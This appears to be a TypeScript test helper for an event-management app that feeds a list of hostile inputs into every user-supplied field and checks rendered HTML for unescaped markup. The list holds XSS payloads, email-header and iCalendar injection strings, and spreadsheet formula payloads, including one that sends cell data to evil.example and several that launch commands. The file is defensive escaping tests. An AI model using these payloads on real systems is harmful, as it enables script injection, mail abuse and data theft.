import * as api from '@foyer/contracts'
import type { Foyer } from './foyer.ts'
import { FUTURE_TIMES } from './open-event.ts'

/** Texts that a browser, an email client, a calendar, a spreadsheet or a template engine might interpret. */
export const HOSTILE: Record<string, string> = {
  'a script': `<script>window.__hit='script'</script>`,
  'an image with an event handler': `"><img src=x onerror="window.__hit='img'"><svg onload=window.__hit=1>`,
  'HTML attributes': `' " onmouseover=window.__hit=1 autofocus onfocus='window.__hit=1' style="position:fixed`,
  'closing tags': `</title></textarea></select></script></style>--></p><b onclick=window.__hit=1>`,
  'a javascript: link': `[x](javascript:window.__hit=1) <a href="javascript:window.__hit=1">x</a> javascript:window.__hit=1`,
  'an external image': `![x](http://evil.example/x.png) [y](http://evil.example) <https://evil.example>`,
  'Markdown blocks': `a\n\n# b\n\n- c\n> d\n\n    e\n\n| f | g |\n|---|---|\n`,
  Liquid: `{{ 7 | times: 191 }}{% assign x = 1 %}{% for i in (1..9) %}{{ event.name }}{% endfor %}{% raw %}`,
  'an email header': `Ada\r\nBcc: evil@evil.example\r\nSubject: other\r\n\r\nbody`,
  'another recipient': `Ada" <evil@evil.example>, "Bob`,
  'an iCalendar line': `x\r\nATTENDEE:mailto:evil@evil.example\nEND:VEVENT\nBEGIN:VEVENT\\;X=1,2:3"`,
  'a formula': `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  'a formula with a plus': `+1+cmd|' /C calc'!A0`,
  'a formula with a minus': `-2+3+cmd|' /C calc'!A0`,
  'a formula with an at': `@SUM(1+1)*cmd|' /C calc'!A0`,
  'a formula after a tab': `\t=1+1;\r=2+2\n=3+3`,
  'a formula in full-width characters': ` "＝1+1", ＠SUM(1)`,
  'bidirectional control characters': `\u202Egnp.exe\u202C \u2066x\u2069 \u200F`,
  'control characters': `a\u0001b\u0007c\u001bd\u007fe\u0085f\u2028g\ufeffh\uffffi`,
  'XML syntax': `&lt;b&gt; &#60;script&#62; ]]> <!-- <?php _x0041_ &amp;amp;`,
}

/** An event in which every user-supplied text is `text`, with a campaign link. */
export async function hostileEvent(foyer: Foyer, text: string, settings: Record<string, unknown> = {}) {
  const organizer = await foyer.organizer()
  await organizer.do(api.updateCurrentWorkspace, { body: { name: text } })
  const url = `https://evil.example/"><script>window.__hit=1</script>'`
  // Browsers normalize the white space of an option.
  const option = asDisplayed(text)
  const fields = [
    { key: 'comment', label: text, type: 'text', helpText: text },
    { key: 'choice', label: text, type: 'select', options: [option, 'other'] },
    { key: 'choices', label: text, type: 'multi-select', options: [option, 'other'], required: true },
    { key: 'story', label: text, type: 'long-text', visibleIf: { field: 'comment', equals: text.trim() } },
    { key: 'yes', label: text, type: 'consent' },
  ]
  const form = await organizer.do(api.createForm, { body: { name: text, fields } })
  const event = await organizer.do(api.createEvent, {
    body: {
      ...FUTURE_TIMES,
      name: text,
      slug: 'hostile',
      shortDescription: text,
      location: { location: text, fullAddress: text, context: [{ id: text, text }] },
      previewThumbnailUrl: url,
      registrationFormId: form.id,
      ...settings,
    },
  })
  const params = { eventId: event.id }
  await organizer.do(api.createSpeaker, { params, body: { name: text, title: text, bio: text, avatar: url } })
  const sponsor = await organizer.do(api.addSponsor, { params, body: { name: text, website: url, logo: url } })
  await organizer.do(api.addSponsor, { params, body: { name: `${text} 2`, website: url } })
  const showcases = [{ title: text, sponsorIds: [sponsor.sponsorId] }]
  await organizer.do(api.replaceLogoShowcases, { params, body: { showcases } })
  const campaign = await organizer.do(api.createMarketingCampaign, { body: { name: text } })
  const tags = { source: text, medium: text, campaign: text, term: text, content: text, referral: text }
  await organizer.do(api.createCampaignLink, { params, body: { marketingCampaignId: campaign.id, label: text, ...tags } })
  await organizer.do(api.publishEvent, { params })
  const answers = { comment: text, choice: option, choices: [option], story: text, yes: true }
  const path = `/${organizer.slug}/hostile`
  const slugs = { orgSlug: organizer.slug, eventSlug: 'hostile' }
  const register = (email: string, more: object = {}) =>
    foyer.visitor.do(api.registerForEvent, { params: slugs, body: { name: text, email, answers, campaign: text, ...more } })
  const codeOf = async (email: string) => {
    const { registrants } = await organizer.do(api.listRegistrants, { params })
    return foyer.services.tokens.signId('manage', registrants.find((registrant) => registrant.email === email)!.id)
  }
  return { organizer, event, params, path, slugs, answers, register, codeOf }
}

/** The elements of a document with the names of their attributes, which an unescaped text would change. */
export function skeletonOf(html: string): string[] {
  const tags = [...html.matchAll(/<(\/?[a-z][a-z0-9-]*)((?:\s+[a-z][\w:-]*(?:="[^"<]*")?)*)\s*\/?>/gi)]
  const known = tags.length + (html.match(/<!doctype html>/g)?.length ?? 0)
  const all = html.match(/</g)?.length ?? 0
  if (known !== all) throw new Error(`${all - known} times “<” starts something that is not a plain element`)
  return tags.map(([, name, attributes]) =>
    [name, ...[...attributes!.matchAll(/\s+([a-z][\w:-]*)(?:="[^"]*")?/gi)].map(([, one]) => one)].join(' '),
  )
}

/** A text as a browser displays it: white space is collapsed. */
export const asDisplayed = (text: string): string => text.replace(/\s+/g, ' ').trim()
